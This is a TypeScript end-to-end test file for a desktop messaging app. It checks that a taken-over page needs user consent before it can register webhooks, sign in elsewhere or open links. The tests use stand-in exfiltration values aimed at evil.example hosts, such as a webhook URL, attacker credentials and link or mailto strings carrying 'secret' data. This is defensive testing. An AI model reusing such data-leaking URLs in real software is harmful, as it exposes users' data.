import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { msgId as messageId } from '../../../shared/model/ids.ts';
import { expect, signIn, test } from '../../fixtures.ts';
import { ask, shownAccount } from '../../support/page/ask.ts';
import { conversations, messages } from '../../support/page/screen.ts';
import { answerQuestions } from '../../support/parley/questions.ts';
import { ANA, addColleagues } from '../../support/service/anaAndBen.ts';

test('a page that was taken over sets no callback address and removes no account, unless the person agrees', async ({
  parley: { app, page },
  service,
}) => {
  await service.admin.post(service.email, {}, { msgText: 'still here' });
  await signIn(page, service);
  await expect(conversations(page)).toHaveCount(1);
  const asked = await answerQuestions(app, 'Cancel');
  const url = 'https://evil.example/data';
  const account = await shownAccount(page);
  expect(await ask(page, 'events.register', { url })).toMatchObject({ registeredUrl: null });
  await ask(page, 'session.signOut', { account, forget: true });
  expect(await asked()).toEqual(['Register this address?', 'Remove this account from this computer?']);
  expect(service.requests.count('webhook')).toBe(0);
  await expect(conversations(page)).toHaveCount(1);

  await answerQuestions(app, 'Register');
  expect(await ask(page, 'events.register', { url })).toMatchObject({ registeredUrl: url });
  const testAsked = await answerQuestions(app, 'Cancel');
  expect(await ask(page, 'events.test', {})).toEqual({ kind: 'not-listening' });
  expect(await testAsked()).toEqual([]);
  await ask(page, 'events.setReceiver', { isOn: true, port: null });
  expect(await ask(page, 'events.test', {})).toBe(null);
  expect(await testAsked()).toEqual(['Send a test event to this address?']);
});

test('a page that was taken over signs in at no new address, unless the person agrees', async ({
  parley: { app, page },
  service,
}) => {
  let heard = 0;
  const evil = createServer((_request, response) => {
    heard += 1;
    response.end('[]');
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => evil.once('listening', resolve));
  try {
    const serviceUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
    await signIn(page, service);
    const asked = await answerQuestions(app, 'Cancel');
    const stolen = { serviceUrl, email: 'texts@evil.example', password: 'of the person' };
    const refusedSignIn = () =>
      expect(ask(page, 'session.signIn', { ...stolen, acceptPlainSecrets: true })).rejects.toThrow(
        /cancelled/,
      );
    await refusedSignIn();
    const account = await shownAccount(page);
    await ask(page, 'session.signOut', { account, forget: false });
    await refusedSignIn();
    expect(await asked()).toEqual(['Sign in to this service?', 'Sign in to this service?']);
    expect(heard).toBe(0);
    const { email, password } = service;
    await ask(page, 'session.signIn', { serviceUrl: service.url, email, password, acceptPlainSecrets: true });
    expect(await asked()).toHaveLength(2);
    expect(await shownAccount(page)).toBe(account);
  } finally {
    evil.closeAllConnections();
    await new Promise((resolve) => evil.close(resolve));
  }
});

test('a link opens at once if someone else wrote it so in the message that it is in, and any other only after a question', async ({
  parley: { app, page },
  service,
}) => {
  const text = 'see https://Known.example/page, https://bücher.example/ or meet.com. Mail ana@known.example';
  await addColleagues(service);
  const toMe = { participants: [service.email] };
  const { convId, msgId } = await service.admin.post(ANA.email, toMe, { msgText: text });
  const own = { msgText: 'see https://other.example' };
  const { msgId: ownMsgId } = await service.admin.post(service.email, { convId }, own);
  await signIn(page, service);
  await conversations(page).first().click();
  await app.evaluate(({ shell }) => {
    const opened: string[] = [];
    Reflect.set(globalThis, 'opened', opened);
    shell.openExternal = async (address) => void opened.push(address);
  });
  const opened = () => app.evaluate((): string[] => Reflect.get(globalThis, 'opened'));
  const asked = await answerQuestions(app, 'Cancel');
  const known = ['https://known.example/page', 'https://xn--bcher-kva.example/', 'mailto:ana@known.example'];
  for (const name of ['https://Known.example/page', 'https://bücher.example/', 'ana@known.example'])
    await messages(page).first().getByRole('link', { name }).click();
  // Each is looked up in core first, and they may come back in any order.
  await expect.poll(async () => (await opened()).toSorted()).toEqual(known.toSorted());
  const map = 'https://www.openstreetmap.org/?mlat=1&mlon=-2.5#map=15/1/-2.5';
  await ask(page, 'links.open', { url: map, msgId: null });
  expect((await opened()).at(-1)).toBe(map);
  expect(await asked()).toEqual([]);

  const unknown = [
    'https://data.evil.example/',
    'https://Known.example/page?data=secret',
    'https://t.co/?data=secret',
    'mailto:a@known.example?to=evil@evil.example&body=secret',
    'mailto:ana@known.example?body=secret',
    'https://other.example',
    'https://www.openstreetmap.org/?data=secret',
  ];
  for (const url of unknown) await ask(page, 'links.open', { url, msgId: messageId(msgId) });
  await ask(page, 'links.open', { url: 'https://other.example', msgId: messageId(ownMsgId) });
  expect(await asked()).toEqual([...unknown, own].map(() => 'Open this link?'));
  expect((await opened()).toSorted()).toEqual([...known, map].toSorted());
});
